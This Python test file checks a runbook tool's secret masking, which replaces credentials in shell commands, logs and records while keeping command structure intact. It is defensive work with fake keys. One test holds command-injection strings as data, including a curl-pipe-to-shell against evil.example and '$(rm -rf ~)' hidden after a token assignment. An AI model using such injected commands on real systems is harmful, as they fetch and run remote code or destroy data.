"""Masking: secret values are replaced wherever they appear (commands, log lines, messages,
records, bundles), and nothing else changes: the masked text splits into the same shell words
and operators as the text that runs."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from wikitools.pages.parse import parse_page
from wikitools.runbook.blocks.extract import extract_runbooks
from wikitools.runbook.engines.secrets import is_secret, mask_data, mask_env, mask_text
from wikitools.runbook.engines.shell import ShellSyntaxError, tokenize
from wikitools.runbook.execution.plan import make_plan
from wikitools.runbook.execution.plantext import format_plan

_ALNUM = "QmZtXkLpWvRnYsBcDfGhJkLmNpQrStUvWx7a9b2c4d6e8f0g1h3i5j"


def tok(prefix: str, n: int, length: int = 32) -> str:
    """A distinct, real-looking (and fake) credential: `prefix` + rotated letters."""
    body = (_ALNUM[n:] + _ALNUM[:n])[:length]
    return prefix + body


HF = [tok("hf_", i, 34) for i in range(10)]
SK = [tok("sk-proj-", i + 10, 40) for i in range(10)]
ANTHROPIC = "sk-ant-api03-Zx81LmQpW0rTy7Vb2Nc4Kd9"
GH = "ghp_9aZ8bY7cX6dW5eV4fU3gT2hS1iR0jQkPlOmN"
AWS_ID = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
NV = "nvapi-Gx2Lq9RzT4vWb7Nk1MpS8dYc3Hf6Ja0E"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"

# (text as written or logged, the secret it carries); ≥ 30 shapes seen in launch recipes,
# client commands and engine logs.
CASES: list[tuple[str, str]] = [
    (f"HF_TOKEN={HF[0]} vllm serve org/m", HF[0]),
    (f"export HF_TOKEN={HF[1]}", HF[1]),
    (f"export HUGGING_FACE_HUB_TOKEN='{HF[2]}'", HF[2]),
    (f'OPENAI_API_KEY="{SK[0]}" vllm bench serve --model m', SK[0]),
    (f"docker run --gpus all -e HF_TOKEN={HF[3]} vllm/vllm-openai:latest m", HF[3]),
    (f"docker run --env=HF_TOKEN={HF[4]} img", HF[4]),
    (f"vllm serve m --api-key {SK[1]}", SK[1]),
    (f"vllm serve m --api-key={SK[2]}", SK[2]),
    (f"vllm serve m --api-key\t{SK[3]} --port 8000", SK[3]),
    (f"vllm serve m --hf_token {HF[5]}", HF[5]),
    (f"vllm serve m --hf-token={HF[6]}", HF[6]),
    (f"python -m sglang.launch_server --model-path m --api-key '{SK[4]}'", SK[4]),
    ("lm_eval --model local-completions --model_args "
     f"model=m,base_url=http://127.0.0.1:8000/v1/completions,api_key={SK[5]},num_concurrent=8",
     SK[5]),
    (f"lm_eval --model openai-chat-completions --model_args 'model=m,api_key={ANTHROPIC}'",
     ANTHROPIC),
    (f"curl -H 'Authorization: Bearer {SK[6]}' http://127.0.0.1:8000/v1/models", SK[6]),
    (f'curl -H "Authorization: Bearer {JWT}" http://127.0.0.1:8000/v1/models', JWT),
    ("curl -u admin:Tr0ub4dor-and-3 http://127.0.0.1:9090/metrics", "Tr0ub4dor-and-3"),
    ("curl --user 'ops:c0rrect horse' http://127.0.0.1:9090/", "c0rrect horse"),
    ('curl -H "X-API-Key: 6f1ed002ab5595859014ebf0951522d9" http://127.0.0.1:8000/',
     "6f1ed002ab5595859014ebf0951522d9"),
    ("git clone https://deploy:glpat-x7Yq2Lm9Rt4Vb6Nk1Ps8@gitlab.example.com/llm/wiki.git",
     "glpat-x7Yq2Lm9Rt4Vb6Nk1Ps8"),
    ("pip install --index-url https://__token__:pypi-AgEIcHlwaS5vcmc@pypi.example.com/simple x",
     "pypi-AgEIcHlwaS5vcmc"),
    ("DB_PASS=s3cr3t-P4ss python bench.py", "s3cr3t-P4ss"),
    ("MYSQL_PASSWORD='hunter2 with spaces' python bench.py", "hunter2 with spaces"),
    (f"AWS_ACCESS_KEY_ID={AWS_ID} AWS_SECRET_ACCESS_KEY={AWS_SECRET} aws s3 ls", AWS_SECRET),
    (f"AWS_ACCESS_KEY_ID={AWS_ID} aws s3 ls", AWS_ID),
    (f"NGC_API_KEY={NV} docker login nvcr.io", NV),
    (f"GITHUB_TOKEN={GH} gh release list", GH),
    ("vllm serve m --hf-overrides '{\"token\": \"tok-7Hq2Zr9Lx4Wc\", \"max_len\": 8}'",
     "tok-7Hq2Zr9Lx4Wc"),
    ('{"model": "m", "api_key": "key-Lm7Qx2Rz9Tp4"}', "key-Lm7Qx2Rz9Tp4"),
    (f"INFO 11-30 10:00:00 [utils.py:326] non-default args: {{'model': 'm', 'api_key': "
     f"'{SK[7]}', 'port': 8000}}", SK[7]),
    (f"vllm: error: unrecognized arguments: --api_key {SK[8]}", SK[8]),
    ("ERROR: couldn't start: --api-key Zq8Lm2Rx7Wp4 rejected", "Zq8Lm2Rx7Wp4"),
    (f"Using token {HF[7]} for model download", HF[7]),
    ("password: Xy7-qQ2_zR9 (from .env)", "Xy7-qQ2_zR9"),
    (f"HF_TOKEN=${{HF_TOKEN:-{HF[8]}}} vllm serve m", HF[8]),
    (f"WANDB_API_KEY={'ab12' * 10} python train.py", "ab12" * 10),
    (f"bash -lc \"HF_TOKEN={HF[9]} vllm serve m --port 8000\"", HF[9]),
    ("redis-cli -u redis://default:Rz8Lq2Mx7Wp@127.0.0.1:6379 ping", "Rz8Lq2Mx7Wp"),
]


def shape(text: str) -> tuple[str, ...] | None:
    try:
        return tuple(w.value if w.op else "w" for w in tokenize(text))
    except ShellSyntaxError:
        return None


def test_table_has_at_least_30_secrets() -> None:
    assert len(CASES) >= 30
    assert len({secret for _, secret in CASES}) >= 30


@pytest.mark.parametrize(("text", "secret"), CASES, ids=[t[:40] for t, _ in CASES])
def test_secret_is_masked_and_nothing_else_changes(text: str, secret: str) -> None:
    masked = mask_text(text)
    assert secret not in masked
    assert "***" in masked
    assert shape(masked) == shape(text)
    assert mask_text(masked) == masked
    # Only secret characters went: every word that held no secret is still there.
    try:
        words = [text[w.start : w.end] for w in tokenize(text) if not w.op]
    except ShellSyntaxError:
        words = text.split()
    kept = [w for w in words if not any(s in w for _, s in CASES)]
    for word in kept:
        assert word in masked


def test_injection_after_a_secret_assignment_stays_visible() -> None:
    # The attack: the masked form used to hide `;touch${IFS}pwned` behind HF_TOKEN=***.
    text = "HF_TOKEN=x;touch${IFS}pwned vllm serve m"
    assert mask_text(text) == "HF_TOKEN=***;touch${IFS}pwned vllm serve m"
    for text, shown in [
        ("HF_TOKEN=x&&curl${IFS}evil.example|sh", "HF_TOKEN=***&&curl${IFS}evil.example|sh"),
        ("HF_TOKEN=x|tee /tmp/t", "HF_TOKEN=***|tee /tmp/t"),
        ("HF_TOKEN=x$(touch pwned)", "HF_TOKEN=***$(touch pwned)"),
        ("HF_TOKEN=`touch pwned`", "HF_TOKEN=`touch pwned`"),
        ("HF_TOKEN=x\ntouch pwned", "HF_TOKEN=***\ntouch pwned"),
        ("--api-key x$(rm -rf ~)", "--api-key ***$(rm -rf ~)"),
        ("HF_TOKEN=\"a\";touch p", "HF_TOKEN=\"***\";touch p"),
    ]:
        assert mask_text(text) == shown


def test_references_and_ordinary_settings_are_kept() -> None:
    text = ('HF_TOKEN=$HF_TOKEN TOKENIZERS_PARALLELISM=false vllm serve m --api-key "$KEY" '
            "--max-tokens 5 --tokenizer t --max-num-batched-tokens 8192 -u")
    assert mask_text(text) == text
    assert mask_text("python -u -m vllm.entrypoints.openai.api_server") == (
        "python -u -m vllm.entrypoints.openai.api_server")


@pytest.mark.parametrize(("name", "secret"), [
    ("HF_TOKEN", True), ("OPENAI_API_KEY", True), ("DB_PASS", True), ("apiKey", True),
    ("--api-key", True), ("--hf_token", True), ("AWS_SECRET_ACCESS_KEY", True), ("KEY", True),
    ("MY_SECRET_X", True), ("accessToken", True), ("TOKENIZERS_PARALLELISM", False),
    ("--max-tokens", False), ("--tokenizer", False), ("num_speculative_tokens", False),
    ("--author", False), ("CUDA_VISIBLE_DEVICES", False), ("HF_HOME", False),
])
def test_secret_names(name: str, secret: bool) -> None:
    assert is_secret(name) is secret


def test_mask_env_and_data() -> None:
    assert mask_env({"HF_TOKEN": HF[0], "A": f"url=https://u:{HF[1]}@h", "E_TOKEN": "",
                     "R_TOKEN": "$HF_TOKEN"}) == {
        "A": "url=https://u:***@h", "E_TOKEN": "", "HF_TOKEN": "***", "R_TOKEN": "$HF_TOKEN"}
    data = {"env": {"OPENAI_API_KEY": SK[0]}, "log_tail": [f"--api_key {SK[1]}"],
            "n": 3, "points": [{"message": f"401 for token {HF[2]}"}]}
    assert mask_data(data) == {"env": {"OPENAI_API_KEY": "***"}, "log_tail": ["--api_key ***"],
                               "n": 3, "points": [{"message": "401 for token ***"}]}


# --------------------------------------------------------------------------- properties

SHELL_ALPHABET = st.sampled_from(
    [*"abcXYZ019_-=.:/@,{}$'\" \t\n;&|()<>#\\`*",
        "HF_TOKEN=", "--api-key ", "api_key=", "-u ", "Authorization: Bearer ",
        '"token": ', "https://u:", "sk-", "hf_", "${", "$(", "&&", "||"])
texts = st.lists(SHELL_ALPHABET, max_size=40).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts)
@example("HF_TOKEN=,--api-key HF_TOKEN=(")  # masking made it readable to the shell reader
def test_masking_never_changes_shell_structure(text: str) -> None:
    masked = mask_text(text)
    before = shape(text)
    if before is not None:
        assert shape(masked) == before
        # Operators, and every word outside the masked spans, stay where they were.
        ops = [w.value for w in tokenize(text) if w.op]
        assert [w.value for w in tokenize(masked) if w.op] == ops
    assert mask_text(masked) == masked


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_masking_any_text_never_raises(text: str) -> None:
    masked = mask_text(text)
    assert len(masked) <= len(text) + 3 * text.count("=") + 3 * text.count(" ") + 3
    assert mask_text(masked) == masked


def test_plan_shows_the_command_hidden_after_a_secret() -> None:
    page = ("```{ .bash #r .runbook-server engine=vllm }\n"
            "HF_TOKEN=x;touch${IFS}pwned\nvllm serve m --port 8000\n```\n")
    runbooks, diags = extract_runbooks([parse_page(page, "p.md")], None)
    assert diags == []
    plan = make_plan(runbooks.get("r"), artifacts_dir="a")
    shown = format_plan(plan)
    assert "HF_TOKEN=***;touch${IFS}pwned" in shown
    assert plan.server.command.startswith("HF_TOKEN=x;touch${IFS}pwned")  # what runs


def test_rendered_failure_box_never_shows_a_secret(tmp_path) -> None:
    """A record written before masking covered a shape still renders masked."""
    import json

    from wikitools.runbook.rendering.render import render_pages

    key = "sk-proj-Zx81LmQpW0rTy7Vb2Nc4Kd9Qe"
    page = ("# P\n\n```{ .bash #r .runbook-server engine=vllm }\nvllm serve m\n```\n\n"
            "<!-- wiki:results runbook=r -->\n<!-- wiki:end -->\n")
    (tmp_path / "wiki").mkdir()
    (tmp_path / "wiki" / "p.md").write_text(page)
    parsed = parse_page(page, "wiki/p.md")
    runbooks, _ = extract_runbooks([parsed], None)
    folder = tmp_path / "runbooks" / "r"
    folder.mkdir(parents=True)
    (folder / "20261130T100000Z-00000000.json").write_text(json.dumps({
        "schema_version": 1, "runbook": "r", "page": "wiki/p.md",
        "blocks_hash": runbooks.get("r").blocks_hash, "run_id": "20261130T100000Z-00000000",
        "started_at": "2026-11-30T10:00:00Z", "status": "failed", "failed_step": "ready",
        "message": f"server exited: unrecognized arguments: --api_key {key}",
        "server": {"log_tail": [f"non-default args: {{'api_key': '{key}'}}"]}}))
    changes, _diags = render_pages([parsed], tmp_path, runbooks=runbooks)
    (change,) = changes
    # the mask, escaped as every record string on a page is (shown as *** on the site)
    assert r"unrecognized arguments: --api_key \*\*\*" in change.new
    assert key not in change.new


ONE_WORD_AND_ATTACHED = [
    ("PGPASSWORD=Pg9secretValue psql -h db", "Pg9secretValue"),
    ("SSHPASS=Ssh9secretValue sshpass -e ssh gpu-host", "Ssh9secretValue"),
    ("MYTOKEN=My9secretValue ./serve.sh", "My9secretValue"),
    ("HFTOKEN=Hf9secretValue vllm serve m", "Hf9secretValue"),
    ("docker run -eHF_TOKEN=Dk9secretValue img vllm serve m", "Dk9secretValue"),
    ("docker run --env=HF_TOKEN=Env9secretValue img", "Env9secretValue"),
    ("vllm serve m --api-key=$'Ansi9secret Value'", "Ansi9secret"),
    ("curl --user=admin:Curl9secretValue http://127.0.0.1:8000/v1/models", "Curl9secretValue"),
    ("curl -uadmin:Short9secretValue http://127.0.0.1:8000/v1/models", "Short9secretValue"),
]


@pytest.mark.parametrize(("text", "secret"), ONE_WORD_AND_ATTACHED,
                         ids=[t.split("=")[0][:24] for t, _ in ONE_WORD_AND_ATTACHED])
def test_secrets_in_one_word_names_and_attached_flags_are_masked(text: str, secret: str) -> None:
    masked = mask_text(text)
    assert secret not in masked and "***" in masked
    assert shape(masked) == shape(text)
    # In free text (a log line quoting the command) too.
    assert secret not in mask_text(f"error: the command was: {text}")


@pytest.mark.parametrize("name", ["PGPASSWORD", "SSHPASS", "MYTOKEN", "HFTOKEN"])
def test_one_word_secret_names_are_secret_names(name: str) -> None:
    assert is_secret(name)
    assert mask_env({name: "value1234"}) == {name: "***"}


@pytest.mark.parametrize("name", ["BYPASS", "COMPASS", "PASSTHROUGH", "TOKENIZER", "NUM_TOKENS",
                                  "--max-num-batched-tokens", "--tokenizer-mode"])
def test_words_that_merely_contain_a_secret_word_are_kept(name: str) -> None:
    assert not is_secret(name)
